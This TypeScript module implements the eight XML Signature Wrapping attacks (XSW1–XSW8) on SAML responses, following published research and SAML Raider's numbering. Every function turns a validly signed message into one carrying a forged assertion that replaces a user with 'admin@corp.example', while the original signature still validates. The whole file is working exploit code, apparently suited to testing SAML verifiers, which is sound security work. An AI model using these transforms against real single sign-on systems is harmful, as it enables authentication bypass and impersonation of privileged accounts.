/**
 * Signature wrapping: what was signed stays in the message, and something else stands where a careless reader looks.
 * Source: Somorovsky and others, On Breaking SAML, 2012; the eight forms as SAML Raider numbers them.
 */

const assertionPattern = /<saml:Assertion [\s\S]*<\/saml:Assertion>/;
const signaturePattern = /<ds:Signature [\s\S]*?<\/ds:Signature>/;

const partOf = (pattern: RegExp, xml: string): string => {
  const found = pattern.exec(xml)?.[0];
  if (found === undefined) throw new Error(`The message has no ${pattern.source}.`);
  return found;
};

/** Text that replaces as it is: a `$` in a signature means nothing. */
const replace = (xml: string, pattern: RegExp | string, by: string): string => xml.replace(pattern, () => by);

/** The same for somebody else, under another id. */
const forged = (xml: string): string =>
  xml.replaceAll("jane@corp.example", "admin@corp.example").replace(/ ID="_/, ' ID="_x');

/** The same without its first signature. */
const unsigned = (xml: string): string => replace(xml, signaturePattern, "");

const insideSignature = (signature: string, what: string): string =>
  replace(signature, "</ds:Signature>", `<ds:Object>${what}</ds:Object></ds:Signature>`);

const inPlaceOfAssertion = (response: string, what: string): string => replace(response, assertionPattern, what);

interface Wrapping {
  readonly name: string;
  /** What of the response must be signed for it. */
  readonly signs: "response" | "assertion";
  wrap(xml: string): string;
}

export const wrappings: readonly Wrapping[] = [
  {
    name: "XSW1",
    signs: "response",
    wrap: (xml) =>
      replace(forged(xml), signaturePattern, insideSignature(partOf(signaturePattern, xml), unsigned(xml))),
  },
  {
    name: "XSW2",
    signs: "response",
    wrap: (xml) => replace(forged(xml), signaturePattern, `${unsigned(xml)}${partOf(signaturePattern, xml)}`),
  },
  {
    name: "XSW3",
    signs: "assertion",
    wrap: (xml) => {
      const assertion = partOf(assertionPattern, xml);
      return inPlaceOfAssertion(xml, `${unsigned(forged(assertion))}${assertion}`);
    },
  },
  {
    name: "XSW4",
    signs: "assertion",
    wrap: (xml) => {
      const assertion = partOf(assertionPattern, xml);
      const evil = replace(unsigned(forged(assertion)), "</saml:Assertion>", `${assertion}</saml:Assertion>`);
      return inPlaceOfAssertion(xml, evil);
    },
  },
  {
    name: "XSW5",
    signs: "assertion",
    wrap: (xml) => {
      const assertion = partOf(assertionPattern, xml);
      return inPlaceOfAssertion(xml, `${forged(assertion)}${unsigned(assertion)}`);
    },
  },
  {
    name: "XSW6",
    signs: "assertion",
    wrap: (xml) => {
      const assertion = partOf(assertionPattern, xml);
      const signature = partOf(signaturePattern, assertion);
      const holder = replace(signature, "</ds:Signature>", `${unsigned(assertion)}</ds:Signature>`);
      return inPlaceOfAssertion(xml, replace(forged(assertion), signaturePattern, holder));
    },
  },
  {
    name: "XSW7",
    signs: "assertion",
    wrap: (xml) => {
      const assertion = partOf(assertionPattern, xml);
      const extensions = `<samlp:Extensions>${unsigned(forged(assertion))}</samlp:Extensions>`;
      return inPlaceOfAssertion(xml, `${extensions}${assertion}`);
    },
  },
  {
    name: "XSW8",
    signs: "assertion",
    wrap: (xml) => {
      const assertion = partOf(assertionPattern, xml);
      const signature = insideSignature(partOf(signaturePattern, assertion), unsigned(assertion));
      return inPlaceOfAssertion(xml, replace(forged(assertion), signaturePattern, signature));
    },
  },
];
